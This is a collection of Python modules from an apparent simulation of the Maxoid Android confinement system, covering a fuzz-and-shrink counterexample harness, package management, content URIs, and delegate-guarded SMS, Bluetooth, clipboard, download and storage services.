        return events_digest(tuple(self.recorder.events()))


def replay_to_anchor(
    counterexample: "Counterexample", anchor_seq: Optional[int] = None
) -> AnchorHalt:
    """Re-run a counterexample's minimal sequence with the recorder armed
    and halt at the anchor event — the replay-to-anchor postmortem.

    ``anchor_seq`` defaults to the recorded black box's anchor (its last
    event). Returns an :class:`AnchorHalt` whose world is still open for
    inspection; raises RuntimeError if the replay drifts and never
    reaches the anchor."""
    if anchor_seq is None:
        if counterexample.blackbox is None:
            raise ValueError("counterexample carries no flight recording")
        anchor_seq = counterexample.blackbox.anchor_seq
    ops = scenario_from_seed(counterexample.seed)
    minimal = [ops[i] for i in counterexample.kept]
    world = FuzzWorld(
        planted=counterexample.planted,
        maxoid=counterexample.maxoid,
        record=True,
        halt_at=anchor_seq,
    )
    world.start()
    try:
        for op in minimal:
            world.step(op)
    except AnchorReached as reached:
        return AnchorHalt(world=world, event=reached.event, recorder=OBS.recorder)
    except BaseException:
        world.close()
        raise
    world.close()
    raise RuntimeError(
        f"replay never reached anchor event #{anchor_seq} "
        f"(recorded {OBS.recorder.seq} events) — recording and scenario disagree"
    )


def shrink(
    ops: Sequence[Op], planted: Optional[str] = None, maxoid: bool = True
) -> List[int]:
    """Greedy delta-debugging: the indices of a minimal violating
    subsequence (every remaining op is load-bearing — removing any one
    of them makes the violation disappear)."""
    kept = [
        i for i, op in enumerate(ops)
        # Fault/crash ops only ever *mask* a leak; drop them first.
        if not isinstance(op, (ArmFault, DisarmFaults, CrashNow))
    ]
    if not run_scenario([ops[i] for i in kept], planted, maxoid).violations:
        kept = list(range(len(ops)))

    changed = True
    while changed:
        changed = False
        for index in list(kept):
            trial = [i for i in kept if i != index]
            if run_scenario([ops[i] for i in trial], planted, maxoid).violations:
                kept = trial
                changed = True
    return kept


@dataclass
class Counterexample:
    """A shrunk, replayable, lineage-annotated violation report."""

    seed: int
    planted: Optional[str]
    maxoid: bool
    kept: Tuple[int, ...]
    ops: Tuple[Op, ...]
    result: RunResult
    #: The flight recording of the minimal run (when the sweep recorded
    #: one) — the replay-to-anchor postmortem's input.
    blackbox: Optional[BlackBox] = None

    @property
    def fingerprint(self) -> str:
        return self.result.fingerprint()

    def render(self) -> str:
        """The human-readable counterexample: minimal ops + lineage."""
        lines = [
            f"counterexample: seed={self.seed} planted={self.planted} "
            f"maxoid={self.maxoid} fingerprint={self.fingerprint[:16]}",
            f"minimal sequence ({len(self.ops)} ops, "
            f"shrunk from scenario ops {list(self.kept)}):",
        ]
        for step, op in enumerate(self.ops, 1):
            lines.append(f"  {step}. {op.render()}")
        lines.append("violations:")
        for violation in self.result.violations:
            lines.append("  " + violation.render().replace("\n", "\n  "))
        return "\n".join(lines)

    def to_dict(self) -> dict:
        return {
            "seed": self.seed,
            "planted": self.planted,
            "maxoid": self.maxoid,
            "kept": list(self.kept),
            "ops": [op.render() for op in self.ops],
            "outcomes": [list(pair) for pair in self.result.outcomes],
            "violations": self.result.violation_renders(),
            "schedule": self.result.schedule.decode(),
            "fingerprint": self.fingerprint,
            "blackbox": (
                None
                if self.blackbox is None
                else {
                    "anchor_seq": self.blackbox.anchor_seq,
                    "events": len(self.blackbox.events),
                    "events_digest": self.blackbox.events_digest(),
                }
            ),
        }

    def replay(self) -> RunResult:
        """Re-derive the minimal sequence from the recorded seed and run
        it again; the caller asserts fingerprint equality."""
        ops = scenario_from_seed(self.seed)
        minimal = [ops[i] for i in self.kept]
        return run_scenario(minimal, planted=self.planted, maxoid=self.maxoid)


@dataclass
class SweepReport:
    """What a fuzz sweep covered and (maybe) found."""

    examples: int
    counterexample: Optional[Counterexample] = None

    @property
    def found(self) -> bool:
        return self.counterexample is not None


def fuzz_sweep(
    n: int,
    base_seed: int = 0,
    planted: Optional[str] = None,
    maxoid: bool = True,
    artifact_path: Optional[str] = None,
    blackbox_path: Optional[str] = None,
) -> SweepReport:
    """Run ``n`` seeded scenarios; shrink and report the first violation.

    ``artifact_path`` (used by the CI fuzz lane) receives the
    counterexample as JSON when one is found; the minimal run is then
    re-run with the flight recorder armed so every counterexample ships
    a black-box recording (written to ``blackbox_path`` when given).
    """
    for index in range(n):
        seed = base_seed + index
        ops = scenario_from_seed(seed)
        result = run_scenario(ops, planted=planted, maxoid=maxoid)
        if not result.violations:
            continue
        kept = shrink(ops, planted=planted, maxoid=maxoid)
        minimal = [ops[i] for i in kept]
        final, box = record_scenario(
            minimal, planted=planted, maxoid=maxoid, seed=seed, kept=list(kept)
        )
        counterexample = Counterexample(
            seed=seed,
            planted=planted,
            maxoid=maxoid,
            kept=tuple(kept),
            ops=tuple(minimal),
            result=final,
            blackbox=box,
        )
        if artifact_path is not None:
            with open(artifact_path, "w", encoding="utf-8") as sink:
                json.dump(counterexample.to_dict(), sink, indent=2)
        if blackbox_path is not None:
            from repro.obs.artifacts import write_blackbox

            write_blackbox(blackbox_path, box)
        return SweepReport(examples=index + 1, counterexample=counterexample)
    return SweepReport(examples=n)
