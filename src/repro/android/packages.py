"""Package management: app manifests, install-time UIDs, intent resolution.

Each installed app gets a dedicated Unix UID (Android's sandboxing basis,
paper section 2.1) and a private directory ``/data/data/<pkg>`` owned by
that UID with mode 0700. Apps declare the intents they handle with intent
filters; implicit intents resolve against those.

The optional ``maxoid`` field carries the app's Maxoid manifest (private
external directories, private-intent filters, section 6.1).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, FrozenSet, Iterable, List, Optional

from repro.errors import PackageNotFound
from repro.android.intents import Intent, IntentFilter
from repro.android.permissions import Permission
from repro.android.storage import StorageLayout
from repro.kernel import path as vpath
from repro.kernel.vfs import Filesystem, ROOT_CRED

if TYPE_CHECKING:  # avoid a circular import with repro.core.manifest
    from repro.core.manifest import MaxoidManifest


@dataclass
class AndroidManifest:
    """What an APK declares: identity, permissions, handled intents."""

    package: str
    label: str = ""
    permissions: FrozenSet[Permission] = frozenset()
    handles: List[IntentFilter] = field(default_factory=list)
    maxoid: Optional["MaxoidManifest"] = None

    def __post_init__(self) -> None:
        if not self.label:
            self.label = self.package.rsplit(".", 1)[-1]
        self.permissions = frozenset(self.permissions)


@dataclass
class InstalledPackage:
    """An installed app: manifest plus its assigned UID and storage layout."""

    manifest: AndroidManifest
    uid: int

    @property
    def package(self) -> str:
        return self.manifest.package

    @property
    def storage(self) -> StorageLayout:
        return StorageLayout(self.manifest.package)

    def has_permission(self, permission: Permission) -> bool:
        return permission in self.manifest.permissions


class PackageManager:
    """Installs packages, allocates UIDs, resolves intents."""

    _FIRST_APP_UID = 10001

    def __init__(self, system_fs: Filesystem) -> None:
        self._system_fs = system_fs
        self._packages: Dict[str, InstalledPackage] = {}
        self._uid_counter = itertools.count(self._FIRST_APP_UID)
        self._system_fs.mkdir("/data/data", ROOT_CRED, parents=True)
        self._system_fs.mkdir("/data/data/ppriv", ROOT_CRED, parents=True)

    def install(self, manifest: AndroidManifest) -> InstalledPackage:
        """Install an app: allocate a UID and create its private data dir."""
        if manifest.package in self._packages:
            raise ValueError(f"{manifest.package} is already installed")
        uid = next(self._uid_counter)
        installed = InstalledPackage(manifest=manifest, uid=uid)
        data_dir = installed.storage.internal_dir
        # Android 4.3 creates app data dirs 0751: world-searchable but not
        # listable — the basis of Google Drive's world-readable cache files
        # behind unguessable names (paper section 2.2.II). Files inside are
        # 0600 by default, so private state stays private.
        self._system_fs.mkdir(data_dir, ROOT_CRED, mode=0o751)
        self._system_fs.chown(data_dir, uid)
        self._packages[manifest.package] = installed
        return installed

    def uninstall(self, package: str) -> None:
        self.get(package)  # raises if unknown
        del self._packages[package]

    def get(self, package: str) -> InstalledPackage:
        installed = self._packages.get(package)
        if installed is None:
            raise PackageNotFound(package)
        return installed

    def is_installed(self, package: str) -> bool:
        return package in self._packages

    def all_packages(self) -> List[InstalledPackage]:
        return list(self._packages.values())

    def has_permission(self, package: str, permission: Permission) -> bool:
        return self.get(package).has_permission(permission)

    def resolve_intent(self, intent: Intent, exclude: Optional[str] = None) -> List[str]:
        """Packages whose declared intent filters match ``intent``.

        An explicit component resolves to exactly that package. ``exclude``
        omits the sender (apps do not usually resolve to themselves).
        """
        if intent.component is not None:
            self.get(intent.component)
            return [intent.component]
        matches = []
        for package, installed in self._packages.items():
            if package == exclude:
                continue
            matched = [f for f in installed.manifest.handles if f.matches(intent)]
            if matched:
                matches.append((-max(f.priority for f in matched), package))
        return [package for _, package in sorted(matches)]
