"""``content://`` URIs.

System content providers map URIs to rows: ``content://user_dictionary/
words`` is the whole table, ``content://user_dictionary/words/7`` is the
row with ``_id=7``. Maxoid adds *volatile URIs* with a ``tmp`` component —
``content://user_dictionary/tmp/words/7`` — which initiators use to read
their delegates' volatile records (paper section 5.1).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional, Tuple


@dataclass(frozen=True)
class Uri:
    """An immutable content URI: scheme, authority, path segments."""

    scheme: str
    authority: str
    segments: Tuple[str, ...] = ()

    SCHEME_CONTENT = "content"
    SCHEME_FILE = "file"

    @classmethod
    def parse(cls, text: str) -> "Uri":
        """Parse ``scheme://authority/seg1/seg2`` into a :class:`Uri`."""
        scheme, _, rest = text.partition("://")
        if not rest:
            raise ValueError(f"not a URI: {text!r}")
        authority, _, path = rest.partition("/")
        segments = tuple(s for s in path.split("/") if s)
        return cls(scheme=scheme, authority=authority, segments=segments)

    @classmethod
    def content(cls, authority: str, *segments: str) -> "Uri":
        return cls(scheme=cls.SCHEME_CONTENT, authority=authority, segments=tuple(segments))

    @classmethod
    def file(cls, path: str) -> "Uri":
        segments = tuple(s for s in path.split("/") if s)
        return cls(scheme=cls.SCHEME_FILE, authority="", segments=segments)

    # ------------------------------------------------------------------

    def __str__(self) -> str:
        path = "/".join(self.segments)
        return f"{self.scheme}://{self.authority}/{path}" if path else f"{self.scheme}://{self.authority}"

    @property
    def path(self) -> str:
        return "/" + "/".join(self.segments)

    @property
    def last_segment(self) -> Optional[str]:
        return self.segments[-1] if self.segments else None

    def with_appended(self, segment: str) -> "Uri":
        return Uri(self.scheme, self.authority, self.segments + (str(segment),))

    def with_appended_id(self, row_id: int) -> "Uri":
        return self.with_appended(str(row_id))

    @property
    def row_id(self) -> Optional[int]:
        """The trailing numeric id, if the URI names a single row."""
        if self.segments and self.segments[-1].isdigit():
            return int(self.segments[-1])
        return None

    # -- Maxoid volatile URIs -------------------------------------------

    @property
    def is_volatile(self) -> bool:
        """True for volatile URIs (``tmp`` as the first path component)."""
        return bool(self.segments) and self.segments[0] == "tmp"

    def to_volatile(self) -> "Uri":
        """``content://auth/words/7`` -> ``content://auth/tmp/words/7``."""
        if self.is_volatile:
            return self
        return Uri(self.scheme, self.authority, ("tmp",) + self.segments)

    def to_normal(self) -> "Uri":
        """Strip the ``tmp`` component if present."""
        if not self.is_volatile:
            return self
        return Uri(self.scheme, self.authority, self.segments[1:])
