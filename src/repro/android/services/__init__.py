"""System services Maxoid modifies (paper section 6.2, item 5)."""

from repro.android.services.clipboard import ClipboardService
from repro.android.services.bluetooth import BluetoothService
from repro.android.services.telephony import TelephonyService
from repro.android.services.download_manager import DownloadManager
from repro.android.services.media_scanner import MediaScanner

__all__ = [
    "ClipboardService",
    "BluetoothService",
    "TelephonyService",
    "DownloadManager",
    "MediaScanner",
]
