"""Telephony (SMS) with the Maxoid delegate guard.

Paper section 6.2: "Telephony Provider [is] modified to prevent delegates
from sending data via ... SMS services."
"""

from __future__ import annotations

from typing import List, Tuple

from repro.core.netguard import assert_not_delegate
from repro.kernel.proc import Process


class TelephonyService:
    """SMS out-channel; records messages for egress auditing."""

    def __init__(self, maxoid_enabled: bool = True) -> None:
        self._maxoid = maxoid_enabled
        self.messages: List[Tuple[str, str, str]] = []  # (context, number, body)

    def send_sms(self, process: Process, number: str, body: str) -> None:
        if self._maxoid:
            assert_not_delegate(process.context, "sms")
        self.messages.append((str(process.context), number, body))

    def leaked(self, secret: str) -> bool:
        return any(secret in body for _, _, body in self.messages)
