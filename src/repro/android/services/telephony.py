"""Telephony (SMS) with the Maxoid delegate guard.

Paper section 6.2: "Telephony Provider [is] modified to prevent delegates
from sending data via ... SMS services."
"""

from __future__ import annotations

from typing import Any, List, Optional, Tuple

from repro.core.netguard import assert_not_delegate
from repro.faults import FAULTS as _FAULTS
from repro.kernel.proc import Process
from repro.obs import OBS as _OBS
from repro.sched import SCHED as _SCHED


class TelephonyService:
    """SMS out-channel; records messages for egress auditing."""

    def __init__(self, maxoid_enabled: bool = True, obs: Optional[Any] = None) -> None:
        self._maxoid = maxoid_enabled
        self.messages: List[Tuple[str, str, str]] = []  # (context, number, body)
        # The owning device's observability context.
        self.obs = obs if obs is not None else _OBS

    def send_sms(self, process: Process, number: str, body: str) -> None:
        if self.obs.enabled:
            with self.obs.tracer.span(
                "sms.send", pid=process.pid, context=str(process.context)
            ):
                self.obs.metrics.count("sms.sends")
                self._send_sms_impl(process, number, body)
            return
        self._send_sms_impl(process, number, body)

    def _send_sms_impl(self, process: Process, number: str, body: str) -> None:
        if _FAULTS.enabled:
            _FAULTS.hit(
                "sms.send",
                context=str(process.context),
                number=number,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            _SCHED.yield_point(
                "sms.send", number=number, resource="sms-egress-log", rw="w"
            )
        if self._maxoid:
            assert_not_delegate(process.context, "sms")
        self.messages.append((str(process.context), number, body))

    def leaked(self, secret: str) -> bool:
        return any(secret in body for _, _, body in self.messages)
