"""The media scanner.

Scans files into the Media provider: extracts metadata (size, title, type
guessed from the extension) and asks the provider to create the record and
its thumbnail. Because the insert travels with the calling process's task
context, a delegate's scan lands in its initiator's volatile state — and
the thumbnail side-artifact follows the record's state (paper section 5.3).
"""

from __future__ import annotations

from typing import Optional

from repro.android.content.media import (
    FILES_URI,
    MEDIA_TYPE_AUDIO,
    MEDIA_TYPE_IMAGE,
    MEDIA_TYPE_NONE,
    MEDIA_TYPE_VIDEO,
)
from repro.android.content.provider import ContentResolver, ContentValues
from repro.android.uri import Uri
from repro.kernel import path as vpath
from repro.kernel.proc import Process
from repro.kernel.syscall import Syscalls

_EXTENSION_TYPES = {
    "jpg": MEDIA_TYPE_IMAGE,
    "jpeg": MEDIA_TYPE_IMAGE,
    "png": MEDIA_TYPE_IMAGE,
    "gif": MEDIA_TYPE_IMAGE,
    "mp3": MEDIA_TYPE_AUDIO,
    "ogg": MEDIA_TYPE_AUDIO,
    "wav": MEDIA_TYPE_AUDIO,
    "mp4": MEDIA_TYPE_VIDEO,
    "mkv": MEDIA_TYPE_VIDEO,
    "avi": MEDIA_TYPE_VIDEO,
}


def media_type_for(path: str) -> int:
    extension = path.rsplit(".", 1)[-1].lower() if "." in path else ""
    return _EXTENSION_TYPES.get(extension, MEDIA_TYPE_NONE)


class MediaScanner:
    """Scan files into the Media provider on behalf of a process."""

    def __init__(self, resolver: ContentResolver) -> None:
        self._resolver = resolver

    def scan_file(
        self,
        process: Process,
        path: str,
        volatile: bool = False,
        generate_thumbnail: bool = True,
    ) -> Uri:
        """Scan one file; returns the created media URI.

        ``volatile=True`` lets an *initiator* store the metadata in its own
        volatile state (a delegate's scans are volatile automatically).
        """
        sys = Syscalls(process)
        size = sys.stat(path).size if sys.exists(path) else 0
        values = ContentValues(
            {
                "_data": path,
                "media_type": media_type_for(path),
                "title": vpath.basename(path),
                "size": size,
                "generate_thumbnail": generate_thumbnail,
            },
            is_volatile=volatile,
        )
        return self._resolver.insert(process, FILES_URI, values)
