"""The DownloadManager client API (paper section 7.1).

A thin wrapper over the Downloads provider, like Android's. Maxoid extends
it with one parameter: a requested download may be stored in the caller's
**volatile state** instead of public state — the one-line change that gives
Browser incognito downloads.
"""

from __future__ import annotations

from typing import Any, Dict, Optional

from repro.android.content.downloads import DOWNLOADS_URI, STATUS_SUCCESS
from repro.android.content.provider import ContentResolver, ContentValues
from repro.android.uri import Uri
from repro.faults import FAULTS as _FAULTS
from repro.kernel.proc import Process
from repro.obs import OBS as _OBS
from repro.sched import SCHED as _SCHED


class DownloadManager:
    """Enqueue and query downloads on behalf of an app process."""

    def __init__(self, resolver: ContentResolver, obs: Optional[Any] = None) -> None:
        self._resolver = resolver
        # The owning device's observability context.
        self.obs = obs if obs is not None else _OBS

    def enqueue(
        self,
        process: Process,
        url: str,
        title: str,
        destination: Optional[str] = None,
        volatile: bool = False,
        headers: Optional[Dict[str, str]] = None,
    ) -> int:
        """Request a download; returns the download id.

        ``volatile=True`` is the Maxoid extension: the download record and
        file land in the caller's volatile state (incognito mode).
        """
        if self.obs.enabled:
            with self.obs.tracer.span(
                "dm.enqueue", pid=process.pid, volatile=volatile
            ):
                self.obs.metrics.count("dm.enqueues")
                return self._enqueue_impl(
                    process, url, title, destination, volatile, headers
                )
        return self._enqueue_impl(process, url, title, destination, volatile, headers)

    def _enqueue_impl(
        self,
        process: Process,
        url: str,
        title: str,
        destination: Optional[str],
        volatile: bool,
        headers: Optional[Dict[str, str]],
    ) -> int:
        if _FAULTS.enabled:
            _FAULTS.hit(
                "dm.enqueue",
                context=str(process.context),
                url=url,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            _SCHED.yield_point(
                "dm.enqueue", url=url, resource="downloads-table", rw="w"
            )
        values = ContentValues(
            {"uri": url, "title": title},
            is_volatile=volatile,
        )
        if destination is not None:
            values.put("_data", destination)
        if headers:
            values.put("headers", dict(headers))
        row_uri = self._resolver.insert(process, DOWNLOADS_URI, values)
        return int(row_uri.to_normal().row_id or 0)

    def status(self, process: Process, download_id: int, volatile: bool = False) -> Optional[int]:
        uri = DOWNLOADS_URI.with_appended_id(download_id)
        if volatile:
            uri = uri.to_volatile()
        result = self._resolver.query(process, uri, projection=["status"])
        if not result.rows:
            return None
        index = [c.lower() for c in result.columns].index("status")
        return int(result.rows[0][index])

    def succeeded(self, process: Process, download_id: int, volatile: bool = False) -> bool:
        return self.status(process, download_id, volatile=volatile) == STATUS_SUCCESS

    def open_downloaded_file(self, process: Process, download_id: int) -> bytes:
        return self._resolver.open_input(
            process, DOWNLOADS_URI.with_appended_id(download_id)
        )
