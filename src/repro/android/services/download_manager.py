"""The DownloadManager client API (paper section 7.1).

A thin wrapper over the Downloads provider, like Android's. Maxoid extends
it with one parameter: a requested download may be stored in the caller's
**volatile state** instead of public state — the one-line change that gives
Browser incognito downloads.
"""

from __future__ import annotations

from typing import Dict, Optional

from repro.android.content.downloads import DOWNLOADS_URI, STATUS_SUCCESS
from repro.android.content.provider import ContentResolver, ContentValues
from repro.android.uri import Uri
from repro.kernel.proc import Process


class DownloadManager:
    """Enqueue and query downloads on behalf of an app process."""

    def __init__(self, resolver: ContentResolver) -> None:
        self._resolver = resolver

    def enqueue(
        self,
        process: Process,
        url: str,
        title: str,
        destination: Optional[str] = None,
        volatile: bool = False,
        headers: Optional[Dict[str, str]] = None,
    ) -> int:
        """Request a download; returns the download id.

        ``volatile=True`` is the Maxoid extension: the download record and
        file land in the caller's volatile state (incognito mode).
        """
        values = ContentValues(
            {"uri": url, "title": title},
            is_volatile=volatile,
        )
        if destination is not None:
            values.put("_data", destination)
        if headers:
            values.put("headers", dict(headers))
        row_uri = self._resolver.insert(process, DOWNLOADS_URI, values)
        return int(row_uri.to_normal().row_id or 0)

    def status(self, process: Process, download_id: int, volatile: bool = False) -> Optional[int]:
        uri = DOWNLOADS_URI.with_appended_id(download_id)
        if volatile:
            uri = uri.to_volatile()
        result = self._resolver.query(process, uri, projection=["status"])
        if not result.rows:
            return None
        index = [c.lower() for c in result.columns].index("status")
        return int(result.rows[0][index])

    def succeeded(self, process: Process, download_id: int, volatile: bool = False) -> bool:
        return self.status(process, download_id, volatile=volatile) == STATUS_SUCCESS

    def open_downloaded_file(self, process: Process, download_id: int) -> bytes:
        return self._resolver.open_input(
            process, DOWNLOADS_URI.with_appended_id(download_id)
        )
