"""Bluetooth Manager Service with the Maxoid delegate guard.

Paper section 6.2: "Bluetooth Manager Service ... modified to prevent
delegates from sending data via Bluetooth". Bluetooth is an off-device
channel Maxoid cannot label, so it is treated like the network.
"""

from __future__ import annotations

from typing import List, Tuple

from repro.core.netguard import assert_not_delegate
from repro.kernel.proc import Process


class BluetoothService:
    """Records sends so experiments can audit the egress surface."""

    def __init__(self, maxoid_enabled: bool = True) -> None:
        self._maxoid = maxoid_enabled
        self.sent: List[Tuple[str, bytes]] = []  # (sender context, payload)

    def send(self, process: Process, device: str, payload: bytes) -> None:
        if self._maxoid:
            assert_not_delegate(process.context, "bluetooth")
        self.sent.append((str(process.context), payload))

    def leaked(self, secret: bytes) -> bool:
        return any(secret in payload for _, payload in self.sent)
