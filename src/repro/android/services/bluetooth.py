"""Bluetooth Manager Service with the Maxoid delegate guard.

Paper section 6.2: "Bluetooth Manager Service ... modified to prevent
delegates from sending data via Bluetooth". Bluetooth is an off-device
channel Maxoid cannot label, so it is treated like the network.
"""

from __future__ import annotations

from typing import Any, List, Optional, Tuple

from repro.core.netguard import assert_not_delegate
from repro.faults import FAULTS as _FAULTS
from repro.kernel.proc import Process
from repro.obs import OBS as _OBS
from repro.sched import SCHED as _SCHED


class BluetoothService:
    """Records sends so experiments can audit the egress surface."""

    def __init__(self, maxoid_enabled: bool = True, obs: Optional[Any] = None) -> None:
        self._maxoid = maxoid_enabled
        self.sent: List[Tuple[str, bytes]] = []  # (sender context, payload)
        # The owning device's observability context.
        self.obs = obs if obs is not None else _OBS

    def send(self, process: Process, device: str, payload: bytes) -> None:
        if self.obs.enabled:
            with self.obs.tracer.span(
                "bt.send", pid=process.pid, context=str(process.context), device=device
            ):
                self.obs.metrics.count("bt.sends")
                self._send_impl(process, device, payload)
            return
        self._send_impl(process, device, payload)

    def _send_impl(self, process: Process, device: str, payload: bytes) -> None:
        if _FAULTS.enabled:
            _FAULTS.hit(
                "bt.send",
                context=str(process.context),
                device=device,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            _SCHED.yield_point(
                "bt.send", device=device, resource="bt-egress-log", rw="w"
            )
        if self._maxoid:
            assert_not_delegate(process.context, "bluetooth")
        self.sent.append((str(process.context), payload))

    def leaked(self, secret: bytes) -> bool:
        return any(secret in payload for _, payload in self.sent)
