"""The Clipboard service.

Paper section 6.2: "Clipboard Service is modified to create separate
clipboard instances for delegates." A delegate pasting would otherwise
read whatever the user last copied anywhere (an input channel); a delegate
*copying* would leak initiator secrets to every other app (an output
channel). Maxoid gives each confinement domain its own clipboard: the
main clipboard for initiators, one per initiator package for that
initiator's delegates.

With ``maxoid_enabled=False`` (the baseline) there is a single global
clipboard — the stock Android behaviour the Table 1 audit exploits.
"""

from __future__ import annotations

from typing import Any, Dict, Optional

from repro.kernel.proc import Process
from repro.obs import OBS as _OBS


class ClipboardService:
    """Per-confinement-domain clipboards."""

    _MAIN = "<main>"

    def __init__(self, maxoid_enabled: bool = True, obs: Optional[Any] = None) -> None:
        self._maxoid = maxoid_enabled
        self._clips: Dict[str, Optional[str]] = {self._MAIN: None}
        # The owning device's observability context.
        self.obs = obs if obs is not None else _OBS

    def _domain(self, process: Process) -> str:
        if not self._maxoid:
            return self._MAIN
        context = process.context
        if context.is_delegate and context.initiator is not None:
            return f"vol:{context.initiator}"
        return self._MAIN

    def set_text(self, process: Process, text: str) -> None:
        # No sched yield point here on purpose: clipboard mutations carry
        # no preemption point, which keeps them atomic under the
        # cooperative scheduler (see the lockset baseline justification).
        if self.obs.enabled:
            with self.obs.tracer.span("clip.set", pid=process.pid):
                self.obs.metrics.count("clip.sets")
                self._set_text_impl(process, text)
            return
        self._set_text_impl(process, text)

    def _set_text_impl(self, process: Process, text: str) -> None:
        domain = self._domain(process)
        self._clips[domain] = text
        if self.obs.prov:
            self.obs.provenance.clip_set(process.pid, str(process.context), domain)

    def get_text(self, process: Process) -> Optional[str]:
        if self.obs.enabled:
            with self.obs.tracer.span("clip.get", pid=process.pid):
                self.obs.metrics.count("clip.gets")
                return self._get_text_impl(process)
        return self._get_text_impl(process)

    def _get_text_impl(self, process: Process) -> Optional[str]:
        domain = self._domain(process)
        if domain not in self._clips:
            # A delegate's first paste sees the pre-confinement clipboard
            # content (initial state availability, U1): fork from main.
            self._clips[domain] = self._clips[self._MAIN]
        if self.obs.prov:
            self.obs.provenance.clip_get(process.pid, str(process.context), domain)
        return self._clips[domain]

    def clear_domain(self, initiator: str) -> None:
        """Discard the delegate clipboard of ``initiator`` (Clear-Vol)."""
        self._clips.pop(f"vol:{initiator}", None)
