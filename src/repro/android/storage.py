"""Android storage abstractions over the simulated VFS.

- :class:`StorageLayout` — the canonical paths: each app's internal private
  directory ``/data/data/<pkg>``, the persistent-private-state root
  ``/data/data/ppriv/<pkg>`` added by Maxoid, and external storage
  ``EXTDIR`` (``/storage/sdcard``).
- :class:`SharedPreferences` — Android's "shared preferences" key-value
  store. As the paper notes, it is actually a *private* XML file in the
  app's internal storage; storing it as a real file means Maxoid's file
  views version it for free.
- :class:`PrivateDatabase` — an app-private SQLite database *stored as a
  file* in internal storage. The mini SQL engine state is serialized to the
  VFS after every write, so a delegate's database writes are copied-up by
  Aufs exactly as the paper describes (private DBs are just private files).
"""

from __future__ import annotations

import json
from typing import Dict, List, Optional, Sequence

from repro.errors import FileNotFound, SqlError
from repro.kernel import path as vpath
from repro.kernel.syscall import Syscalls
from repro.minisql import Database
from repro.minisql.engine import ResultSet

#: Mount point of external storage; varies per device in reality, the
#: paper calls it EXTDIR throughout.
EXTDIR = "/storage/sdcard"
DATA_ROOT = "/data/data"
PPRIV_ROOT = "/data/data/ppriv"


class StorageLayout:
    """Path helpers for one package."""

    def __init__(self, package: str) -> None:
        self.package = package

    @property
    def internal_dir(self) -> str:
        """The app's private directory in internal storage."""
        return vpath.join(DATA_ROOT, self.package)

    @property
    def ppriv_dir(self) -> str:
        """The app's persistent private state directory (Maxoid API)."""
        return vpath.join(PPRIV_ROOT, self.package)

    @property
    def shared_prefs_path(self) -> str:
        return vpath.join(self.internal_dir, "shared_prefs", "prefs.xml")

    def database_path(self, name: str) -> str:
        return vpath.join(self.internal_dir, "databases", f"{name}.db")

    def ppriv_database_path(self, name: str) -> str:
        return vpath.join(self.ppriv_dir, "databases", f"{name}.db")

    def external_app_dir(self) -> str:
        """The app's dedicated directory on external storage (Android
        4.4-style ``Android/data/<pkg>``)."""
        return vpath.join(EXTDIR, "Android", "data", self.package)


class SharedPreferences:
    """A private key-value store backed by one file.

    Serialized as JSON rather than Android's XML — the content is opaque
    bytes as far as the state model is concerned; what matters is that it
    lives in the app's private file tree.
    """

    def __init__(self, sys: Syscalls, path: str) -> None:
        self._sys = sys
        self._path = path

    def _load(self) -> Dict[str, object]:
        try:
            raw = self._sys.read_file(self._path)
        except FileNotFound:
            return {}
        if not raw:
            return {}
        return json.loads(raw.decode("utf-8"))

    def _store(self, data: Dict[str, object]) -> None:
        self._sys.makedirs(vpath.parent(self._path))
        self._sys.write_file(self._path, json.dumps(data, sort_keys=True).encode("utf-8"))

    def get(self, key: str, default: object = None) -> object:
        return self._load().get(key, default)

    def put(self, key: str, value: object) -> None:
        data = self._load()
        data[key] = value
        self._store(data)

    def remove(self, key: str) -> None:
        data = self._load()
        data.pop(key, None)
        self._store(data)

    def all(self) -> Dict[str, object]:
        return self._load()

    def append_to_list(self, key: str, value: object, max_length: Optional[int] = None) -> None:
        """Convenience for "recent files"-style lists."""
        data = self._load()
        items = list(data.get(key, []))
        items.append(value)
        if max_length is not None:
            items = items[-max_length:]
        data[key] = items
        self._store(data)


class PrivateDatabase:
    """An app-private database persisted as a single file in the VFS.

    Reads load the file through the calling process's mount namespace;
    writes store it back, so Aufs copy-up automatically forks a delegate's
    version. Schema statements (CREATE TABLE/VIEW/TRIGGER) are recorded and
    replayed on load; rows are serialized as JSON.
    """

    def __init__(self, sys: Syscalls, path: str) -> None:
        self._sys = sys
        self._path = path
        # The engine reports sql.* spans into the owning device's context
        # (resolved through the process behind the syscall layer).
        self._db = Database(obs=sys.obs)
        self._ddl: List[str] = []
        self._load()

    # -- persistence -----------------------------------------------------

    def _load(self) -> None:
        try:
            raw = self._sys.read_file(self._path)
        except FileNotFound:
            return
        if not raw:
            return
        snapshot = json.loads(raw.decode("utf-8"))
        self._ddl = list(snapshot.get("ddl", []))
        self._db = Database(obs=self._sys.obs)
        for statement in self._ddl:
            self._db.execute(statement)
        for table_name, payload in snapshot.get("tables", {}).items():
            table = self._db.table(table_name)
            for row in payload.get("rows", []):
                table.insert_row({k: _decode_value(v) for k, v in row.items()})
            base = payload.get("autoincrement_base")
            if base:
                table.set_autoincrement_base(base)

    def _flush(self) -> None:
        tables = {}
        for name in self._db.table_names():
            table = self._db.table(name)
            tables[name] = {
                "rows": [
                    {k: _encode_value(v) for k, v in row.items()}
                    for row in table.all_rows()
                ],
                "autoincrement_base": table._autoincrement_base,
            }
        snapshot = {"ddl": self._ddl, "tables": tables}
        self._sys.makedirs(vpath.parent(self._path))
        self._sys.write_file(
            self._path, json.dumps(snapshot, sort_keys=True).encode("utf-8")
        )

    # -- SQL surface -------------------------------------------------------

    def execute(self, sql: str, params: Sequence[object] = ()) -> ResultSet:
        """Execute SQL; write statements persist the database file."""
        stripped = sql.lstrip().upper()
        is_write = not stripped.startswith("SELECT")
        result = self._db.execute(sql, params)
        if is_write:
            if stripped.startswith(("CREATE", "DROP")):
                self._ddl.append(sql)
            self._flush()
        return result

    def query(self, sql: str, params: Sequence[object] = ()) -> ResultSet:
        return self._db.execute(sql, params)

    def table_names(self) -> List[str]:
        return self._db.table_names()


def _encode_value(value: object) -> object:
    if isinstance(value, bytes):
        return {"__bytes__": value.hex()}
    return value


def _decode_value(value: object) -> object:
    if isinstance(value, dict) and "__bytes__" in value:
        return bytes.fromhex(value["__bytes__"])
    return value
